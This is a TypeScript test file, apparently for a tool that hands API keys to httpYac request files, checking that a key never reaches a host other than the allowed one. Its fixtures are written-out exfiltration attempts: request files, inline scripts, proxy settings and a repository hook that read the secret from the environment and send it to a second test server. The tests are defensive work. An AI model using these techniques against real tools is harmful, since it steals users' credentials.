import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, isAbsolute, join } from 'node:path';
import * as httpyac from 'httpyac';
import { withProvidedKeys } from '../../src/requestFiles/httpYacKeys';
import { installLogMask } from '../../src/requestFiles/httpYacLogMask';
import { formatVariableReference, getVariableName } from '../../src/requestFiles/keyReferences';
import { ReleasedKeys } from '../../src/requestFiles/releasedKeys';
import { allowOrigins } from '../support/hostChecks';
import { startRecordingServer, type RecordingServer } from '../support/recordingServer';
import { createSourceToken } from '../support/sourceTokens';

const SECRET = '0f1e'.repeat(10);
const OTHER_TOKEN_ID = 'SU-111-222-333';
const OTHER_SECRET = '9a8b'.repeat(10);

describe('a key that httpYac can read isn’t sent to another host', () => {
	const found = createSourceToken();
	const account = { ...found, source: { ...found.source, remote: { account: { endpoint: 'https://api.example' } } } } as typeof found;
	const variable = getVariableName(found.token.id);
	const reference = formatVariableReference(found.token.id);
	let allowed: RecordingServer;
	let other: RecordingServer;
	let folder: string;
	let store: httpyac.store.HttpFileStore;
	let refused: string[];

	before(async () => {
		const provider = {
			EOL: '\n',
			exists: (path: unknown) => Promise.resolve(existsSync(String(path))),
			dirname: (path: unknown) => dirname(String(path)),
			hasExtension: (path: unknown, ...extensions: string[]) => extensions.some((extension) => String(path).endsWith(`.${extension}`)),
			isAbsolute: (path: unknown) => Promise.resolve(isAbsolute(String(path))),
			joinPath: (path: unknown, name: string) => join(String(path), name),
			readFile: (path: unknown) => readFile(String(path), 'utf8'),
			readBuffer: (path: unknown) => readFile(String(path)),
			readdir: (path: unknown) => readdir(String(path)),
			fsPath: String,
			toString: String,
		};
		Object.assign(httpyac.io.fileProvider, provider);
		[allowed, other] = await Promise.all([startRecordingServer(), startRecordingServer()]);
	});

	beforeEach(async () => {
		folder = await mkdtemp(join(tmpdir(), 'httpyac-'));
		store = new httpyac.store.HttpFileStore();
		refused = [];
		const released = new ReleasedKeys();
		released.add(`${found.token.id}:${SECRET}`, account);
		released.add(`${OTHER_TOKEN_ID}:${OTHER_SECRET}`, createSourceToken({ id: OTHER_TOKEN_ID }));
		const context = allowOrigins([allowed.origin], found.token.id, found.source.id);
		installLogMask({ httpyac, documentStore: { clear: () => undefined } }, (request) => {
			const withheld = released.findWithheld(request, `file://${request.file}`, context);
			if (!withheld) {
				return Promise.resolve();
			}
			refused.push(withheld.verdict.kind);
			return Promise.reject(new Error(withheld.verdict.kind));
		});
		process.env[variable] = `${found.token.id}:${SECRET}`;
	});

	afterEach(async () => {
		Reflect.deleteProperty(process.env, variable);
		Reflect.deleteProperty(httpyac.store.pluginStore, 'connect-tokens');
		allowed.received.length = 0;
		other.received.length = 0;
		await rm(folder, { recursive: true, force: true });
	});

	after(() => Promise.all([allowed.stop(), other.stop()]));

	async function send(name: string, text: string, cookieJarEnabled = false): Promise<void> {
		const httpFile = await store.getOrCreate(join(folder, name), () => Promise.resolve(text), 0, { config: { cookieJarEnabled } });
		await httpyac.send({ httpFile });
	}

	const sentToAllowed = () => JSON.stringify(allowed.received).includes(SECRET);

	it('but to an allowed one', async () => {
		await send('own.http', `GET ${allowed.origin}\nAuthorization: ApiKey ${reference}\n`);
		assert.ok(sentToAllowed());
	});

	const attacks: Record<string, (url: string) => Promise<void>> = {
		'by a file that isn’t visible': (url) => send('hidden.http', `GET ${url}/?key=${reference}\n`),
		'in the body': (url) => send('body.http', `POST ${url}\n\nkey=${reference}\n`),
		'as a password, in Base64': (url) => send('password.http', `GET ${url}\nAuthorization: Basic user ${reference}\n`),
		'as a user name, in Base64': (url) => send('user.http', `GET ${url}\nAuthorization: Basic ${reference} password\n`),
		'as a user name of a digest, which httpYac sends after the first response': (url) =>
			send('digest.http', `GET ${url}\nAuthorization: Digest ${reference} x\n`),
		'in a cookie, which httpYac adds to the request at last': (url) => send('cookie.http', `GET ${url}\nCookie: k=${reference}\n`, true),
		'in a cookie that was stored for another port of the same host': async (url) => {
			await send('own.http', `GET ${allowed.origin}\nCookie: k=${reference}\n`, true);
			assert.ok(sentToAllowed());
			Reflect.deleteProperty(process.env, variable);
			await send('later.http', `GET ${url}\n`, true);
		},
		'in a script that encodes it': (url) =>
			send('script.http', `GET ${url}\nX: {{Buffer.from("x" + process.env.${variable}).toString("base64url")}}\n`),
		'in bytes of the body': (url) =>
			send('bytes.http', `{{\nexports.bytes = Buffer.from("key=" + process.env.${variable});\n}}\nPOST ${url}\n\n{{bytes}}\n`),
		'in a script that sets the body': (url) =>
			send('set.http', `POST ${url}\n\nx\n\n{{@request\nrequest.body = Buffer.from(process.env.${variable});\n}}\n`),
		'in a file that is inserted into the body': async (url) => {
			await writeFile(join(folder, 'body.txt'), `key=${reference}`);
			await send('file.http', `POST ${url}\n\n<@ ./body.txt\n`);
		},
		'although a script changes the host at last': (url) =>
			send('host.http', `GET ${allowed.origin}\nX: ${reference}\n\n{{@request\nrequest.url = "${url}";\n}}\n`),
		'in a variable of a .env file': async (url) => {
			await writeFile(join(folder, '.env'), `k=${reference}\n`);
			await send('environment.http', `GET ${url}\nX: {{k}}\n`);
		},
		'in a global variable, even if the key isn’t exposed anymore': async (url) => {
			await send('global.http', `@global.k = ${reference}\nGET ${allowed.origin}/\nX: {{$global.k}}\n`);
			assert.ok(sentToAllowed());
			Reflect.deleteProperty(process.env, variable);
			await send('later.http', `GET ${url}\nX: {{$global.k}}\n`);
		},
		'through a proxy of a .env file': async (url) => {
			await writeFile(join(folder, '.env'), `request_proxy=${url}\n`);
			await send('proxy.http', `GET ${allowed.origin}\nX: ${reference}\n`);
		},
		'through a proxy of httpYac’s configuration': async (url) => {
			await writeFile(join(folder, '.httpyac.json'), JSON.stringify({ proxy: url, request: { https: null } }));
			await send('proxy.http', `GET ${allowed.origin}\nX: ${reference}\n`);
		},
		'through a proxy of a file that isn’t visible': (url) =>
			send('hidden.http', `# @proxy ${url}\nGET ${allowed.origin}\nX: ${reference}\n`),
	};
	for (const [title, attack] of Object.entries(attacks)) {
		it(title, async () => {
			// httpYac reports an error that a hook throws to its user, and not always to the caller.
			await attack(other.origin).catch(() => undefined);
			assert.deepEqual(other.received, []);
			assert.deepEqual(refused, ['foreign']);
		});
	}

	it('as a password of OAuth', async () => {
		const variables = { tokenEndpoint: other.origin, clientId: 'x', clientSecret: 'x', username: 'x', password: reference };
		const definitions = Object.entries(variables).map(([name, value]) => `@oauth2_${name} = ${value}\n`);
		const request = `GET ${allowed.origin}\nAuthorization: oauth2 password\n`;
		await send('oauth.http', `${definitions.join('')}\n${request}`).catch(() => undefined);
		assert.deepEqual(other.received, []);
		assert.deepEqual(refused, ['unknown']);
	});

	const scripts: Record<string, (url: string) => string> = {
		'a URL that isn’t a text': (url) => `request.url = new URL("${url}");`,
		'no headers': (url) => `request.url = "${url}";\nrequest.headers = null;`,
	};
	for (const [title, createScript] of Object.entries(scripts)) {
		it(`if a script sets ${title}`, async () => {
			const script = createScript(other.origin);
			await send('type.http', `POST ${allowed.origin}\n\nkey=${reference}\n\n{{@request\n${script}\n}}\n`).catch(() => undefined);
			assert.deepEqual(other.received, []);
			assert.equal(refused.length, 1);
		});
	}

	const overrides: Record<string, (url: URL) => object> = {
		'a host': ({ hostname, port }) => ({ hostname, port }),
		'the short name of a host': ({ hostname, port }) => ({ host: hostname, port }),
		'a prefix': ({ origin }) => ({ prefixUrl: origin }),
		'a host, and something that isn’t valid': ({ hostname, port }) => ({ hostname, port, https: null }),
		'a socket': () => ({ socketPath: join(folder, 'socket') }),
	};
	for (const [title, createOptions] of Object.entries(overrides)) {
		it(`in the body, if httpYac’s configuration sets ${title}`, async () => {
			await writeFile(join(folder, '.httpyac.json'), JSON.stringify({ request: createOptions(new URL(other.origin)) }));
			await send('override.http', `POST ${allowed.origin}\n\nkey=${reference}\n`).catch(() => undefined);
			assert.deepEqual(other.received, []);
			assert.deepEqual(refused, ['unknown']);
		});
	}

	describe('and code of the repository that httpYac runs', () => {
		/** httpYac's global variables still contain the other one. */
		const sentSecret = '5c7d'.repeat(10);
		/** What the code has seen. */
		const seen: unknown[] = [];

		beforeEach(async () => {
			Reflect.deleteProperty(process.env, variable);
			seen.length = 0;
			Object.assign(globalThis, { connectTokensAttack: seen });
			const look = (name: string) => `(...args) => { look(${JSON.stringify(name)}, args); return args[0]; }`;
			await writeFile(
				join(folder, '.httpyac.js'),
				`const look = (name, args) => globalThis.connectTokensAttack.push([name, { ...process.env }, require('node:util').inspect(args, { depth: 9 })]);
				module.exports = { configureHooks: (api) => {
					api.hooks.replaceVariable.addHook('attack', ${look('replaced')});
					api.hooks.replaceVariable.addHook('first', ${look('first')}, { before: ['connect-tokens'] });
					api.hooks.onRequest.addHook('attack', async (request, context) => {
						look('request', [request]);
						look('asked', [await api.hooks.replaceVariable.trigger('${formatVariableReference(OTHER_TOKEN_ID)}', 'url', context).catch(String)]);
					});
				} };`,
			);
		});

		afterEach(() => Reflect.deleteProperty(globalThis, 'connectTokensAttack'));

		async function sendProvided(keys: ReadonlyMap<string, string>, name: string, text: string): Promise<void> {
			const httpFile = await store.getOrCreate(join(folder, name), () => Promise.resolve(text), 0, {
				workingDir: folder,
				config: { cookieJarEnabled: false },
			});
			await withProvidedKeys(keys, () => httpyac.send({ httpFile }));
		}

		it('sees the key that the user sends, but not in the environment, and no other key', async () => {
			const keys = new Map([[variable, `${found.token.id}:${sentSecret}`]]);
			await sendProvided(keys, 'own.http', `GET ${allowed.origin}\nAuthorization: ApiKey ${reference}\n`);
			assert.ok(JSON.stringify(allowed.received).includes(sentSecret));
			// SECURITY.md says so: the code runs in the process that sends the request.
			assert.ok(JSON.stringify(seen).includes(sentSecret));
			assert.ok(!JSON.stringify(seen.map((entry) => (entry as unknown[])[1])).includes(sentSecret));
			assert.ok(!JSON.stringify(seen).includes(OTHER_SECRET));
		});

		it('sees no key once the request was sent, or with a request that the user sends without one', async () => {
			const keys = new Map([[variable, `${found.token.id}:${sentSecret}`]]);
			await sendProvided(keys, 'own.http', `GET ${allowed.origin}\nAuthorization: ApiKey ${reference}\n`);
			seen.length = 0;
			await sendProvided(new Map(), 'later.http', `GET ${other.origin}\nAuthorization: ApiKey ${reference}\n`);
			assert.ok(seen.length > 0);
			assert.ok(!JSON.stringify(seen).includes(sentSecret));
			assert.ok(!JSON.stringify(other.received).includes(sentSecret));
		});
	});
});
